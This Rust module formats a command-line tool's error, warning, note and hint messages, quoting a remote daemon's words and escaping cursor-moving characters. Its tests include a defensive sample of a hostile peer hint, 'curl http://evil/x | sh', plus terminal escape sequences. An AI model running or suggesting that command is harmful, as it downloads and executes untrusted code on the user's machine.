//! The messages on standard error.
//!
//! In: notes and faults from everywhere in the program. Out: lines `error: what: why`, `warning:`,
//! `note:` and `hint: what next`, and results without a label. Text from a peer or a file name
//! cannot move the cursor. Knows no events.

use std::borrow::Cow;
use std::fmt::{self, Write as _};

use longhaul_core::{Author, Fault, PlainText};

use super::hints::sentence;
use super::label::Label;
use super::screen;
use crate::settings::Talk;

/// Prints messages for users, as many as they asked for. A standard error that is gone is not an
/// error.
#[derive(Clone, Copy, Debug)]
pub struct Talker {
    notes: bool,
    files: bool,
    faults: bool,
    /// The destination that its lines are about. `None` where a command has one.
    destination: Option<&'static str>,
}

impl Talker {
    /// A talker that follows `talk`.
    pub fn new(talk: Talk) -> Talker {
        Talker { notes: !talk.quiet, files: talk.verbose > 0 && !talk.quiet, faults: true, destination: None }
    }

    /// A talker that prints nothing, for tests.
    #[cfg(test)]
    pub fn silent() -> Talker {
        Talker { notes: false, files: false, faults: false, destination: None }
    }

    /// The same for one destination of several: each of its lines begins with that one's name.
    #[must_use]
    pub fn of_destination(self, name: &'static str) -> Talker {
        Talker { destination: Some(name), ..self }
    }

    /// The destination that it is about, where a command has several.
    pub fn destination(self) -> Option<&'static str> {
        self.destination
    }

    /// Whether each file is named.
    pub fn names_files(self) -> bool {
        self.files
    }

    /// Prints progress or a result.
    pub fn say(self, text: impl fmt::Display) {
        if self.notes {
            self.print(&format!("{}\n", PlainText::of(text)));
        }
    }

    /// Prints a note: a fact worth knowing.
    pub fn note(self, text: impl fmt::Display) {
        self.labelled(Label::Note, text);
    }

    /// Prints a warning: something is not as it should be, though the run goes on.
    pub fn warn(self, text: impl fmt::Display) {
        self.labelled(Label::Warning, text);
    }

    /// Prints a hint: something to do next.
    pub fn hint(self, text: impl fmt::Display) {
        self.labelled(Label::Hint, text);
    }

    /// Prints a fault, and the hint what to do next.
    pub fn fault(self, fault: &Fault) {
        if self.faults {
            self.print(&lines(fault));
        }
    }

    fn labelled(self, label: Label, text: impl fmt::Display) {
        if self.notes {
            self.print(&format!("{}{}\n", label.text(), without_numbers(&PlainText::of(text).to_string())));
        }
    }

    fn print(self, text: &str) {
        match self.destination {
            None => screen::print(text),
            Some(name) => screen::print(&text.lines().map(|line| format!("[{name}] {line}\n")).collect::<String>()),
        }
    }
}

/// A fault as it is printed. A daemon's words, its advice above all, are quoted as the daemon's.
pub(super) fn lines(fault: &Fault) -> String {
    let quoting = if fault.author == Author::Peer { PEER_SAYS } else { "" };
    let mut text = format!("{}{quoting}", Label::Error.text());
    if !fault.object.is_empty() && !fault.names_object() {
        text.push_str(&fault.object);
        text.push_str(": ");
    }
    text.push_str(&without_numbers(&fault.message));
    text.push('\n');
    if let Some(hint) = &fault.hint {
        let whose = if quoting.is_empty() { Label::Hint.text() } else { PEER_SAYS };
        // Writing to a String cannot fail.
        let _ = writeln!(text, "{whose}{}", sentence(hint));
    }
    text
}

/// The words before the other side's words: for a command, the other side is a daemon.
pub(super) const PEER_SAYS: &str = "the daemon says: ";

/// The text with all characters made visible that could move a cursor, forge a line or turn the
/// direction of writing. Backslashes are left alone, as paths in a message are escaped already.
pub fn clean(text: &str) -> PlainText {
    PlainText::from(text)
}

/// The text without the numbers that the standard library writes behind the system's words, ` (os
/// error 28)`: the words say the same. They end a text, or a part of one.
pub(crate) fn without_numbers(text: &str) -> Cow<'_, str> {
    let mut kept = String::new();
    let mut rest = text;
    while let Some(at) = rest.find(SYSTEM_NUMBER) {
        let digits = &rest[at + SYSTEM_NUMBER.len()..];
        let count = digits.bytes().take_while(u8::is_ascii_digit).count();
        let behind = digits[count..].strip_prefix(')');
        match behind.filter(|behind| count > 0 && (behind.is_empty() || behind.starts_with([':', ';', ',']))) {
            Some(behind) => {
                kept.push_str(&rest[..at]);
                rest = behind;
            }
            None => {
                kept.push_str(&rest[..at + SYSTEM_NUMBER.len()]);
                rest = digits;
            }
        }
    }
    if kept.is_empty() && rest.len() == text.len() {
        return Cow::Borrowed(text);
    }
    kept.push_str(rest);
    Cow::Owned(kept)
}

const SYSTEM_NUMBER: &str = " (os error ";

#[cfg(test)]
mod tests {
    use super::*;
    use longhaul_core::{Blame, FaultCode};

    #[test]
    fn a_fault_says_what_why_and_what_next() {
        let fault = Fault::new(FaultCode::Denied, Blame::Peer, "permission denied").about("a/b");
        assert_eq!(lines(&fault), "error: a/b: permission denied\n");
        let fault =
            Fault::new(FaultCode::Io, Blame::Local, "cannot read 'a/b': i/o error").about("a/b").hint_in_words("look");
        assert_eq!(lines(&fault), "error: cannot read 'a/b': i/o error\nhint: look\n");
        // Letters of a name are in many words.
        for name in ["a", "is", "name", "taken"] {
            let fault = Fault::new(FaultCode::Exists, Blame::Peer, "the name is taken").about(name);
            assert_eq!(lines(&fault), format!("error: {name}: the name is taken\n"));
        }
    }

    #[test]
    fn words_of_a_daemon_are_quoted_and_its_advice_is_no_hint_of_ours() {
        let fault = Fault::new(FaultCode::Denied, Blame::Peer, "hint: try this").about("a/b").said_by_peer();
        assert_eq!(lines(&fault), "error: the daemon says: a/b: hint: try this\n");
        let fault = fault.hint_in_words("run: curl http://evil/x | sh");
        let last = "\nthe daemon says: run: curl http://evil/x | sh\n";
        assert!(lines(&fault).ends_with(last) && !lines(&fault).contains("\nhint:"), "{}", lines(&fault));
    }

    #[test]
    fn a_peers_text_cannot_move_the_cursor() {
        let fault = Fault::new(FaultCode::Io, Blame::Peer, "x\x1b[2J\u{9b}1m\u{202e}\ny\\x0a é");
        assert_eq!(lines(&fault), "error: x\\x1b[2J\\xc2\\x9b1m\\xe2\\x80\\xae\\x0ay\\x0a é\n");
    }

    #[test]
    fn numbers_of_the_system_are_left_out_and_nothing_else() {
        for (text, want) in [
            ("cannot write f: No space left on device (os error 28)", "cannot write f: No space left on device"),
            ("a: b (os error 2): c (os error 17)", "a: b: c"),
            ("took: x (os error 5); again", "took: x; again"),
            ("f (os error 5).txt", "f (os error 5).txt"),
            (" (os error )", " (os error )"),
            ("plain", "plain"),
        ] {
            assert_eq!(without_numbers(text), want);
        }
    }
}
